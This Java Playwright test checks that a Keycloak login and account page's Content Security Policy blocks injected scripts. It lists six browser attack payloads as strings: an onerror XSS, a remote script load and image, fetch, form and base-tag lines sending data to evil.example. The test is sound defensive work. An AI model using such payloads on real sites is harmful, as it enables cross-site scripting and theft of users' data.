package jp.kosmo.keycloak.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.Route;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import jp.kosmo.keycloak.it.fixture.Union;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What had got into a page all the same would neither run nor get anything out: the policies of {@code docs/security.md}. */
@BrowserTest
class PolicyIT {

    private static final String POLICY = "Content Security Policy";
    private static final String SCRIPT_IN_THE_PAGE =
            "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:x\" onerror=\"document.title = 1\">')";
    private static final String SCRIPT_FROM_ELSEWHERE =
            "document.head.appendChild(Object.assign(document.createElement('script'), {src: 'http://evil.example/x.js'}))";
    private static final String PICTURE_FROM_ELSEWHERE = "new Image().src = 'http://evil.example/?stolen'";
    private static final String CALL_ELSEWHERE = "fetch('http://evil.example/?stolen').catch(() => {})";
    private static final String FORM_TO_ELSEWHERE =
            "Object.assign(document.body.appendChild(document.createElement('form')), {action: 'http://evil.example/', method: 'post'}).submit()";
    private static final String OTHER_BASE =
            "document.head.prepend(Object.assign(document.createElement('base'), {href: 'http://evil.example/'}))";

    static List<String> attacks() {
        return List.of(
                SCRIPT_IN_THE_PAGE,
                SCRIPT_FROM_ELSEWHERE,
                PICTURE_FROM_ELSEWHERE,
                CALL_ELSEWHERE,
                FORM_TO_ELSEWHERE,
                OTHER_BASE);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void aPageOfTheLoginDoesNot(String attack) {
        Page page = Chromium.open(Device.PHONE);
        page.navigate(Union.kanekakenpo().portalRequest(Map.of()).uri().toString());
        isStopped(page, attack);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void anAccountPageDoesNot(String attack) {
        Page page = Chromium.open(Device.PHONE);
        page.route("**/*.js", Route::abort); // which would go on to the login
        page.navigate(Union.kanekakenpo().accountUrl());
        isStopped(page, attack);
    }

    private static void isStopped(Page page, String attack) {
        var sent = new ArrayList<String>();
        page.route("http://evil.example/**", route -> {
            sent.add(route.request().url());
            route.abort();
        });

        // The picture of one attack fails to load besides.
        page.waitForConsoleMessage(
                new Page.WaitForConsoleMessageOptions()
                        .setPredicate(complaint -> complaint.text().contains(POLICY)),
                () -> page.evaluate(attack));

        assertThat(page.title()).isNotEqualTo("1");
        assertThat(sent).isEmpty();
        assertThat(Complaints.take())
                .isNotEmpty()
                .allSatisfy(text -> assertThat(text).contains(POLICY));
    }
}
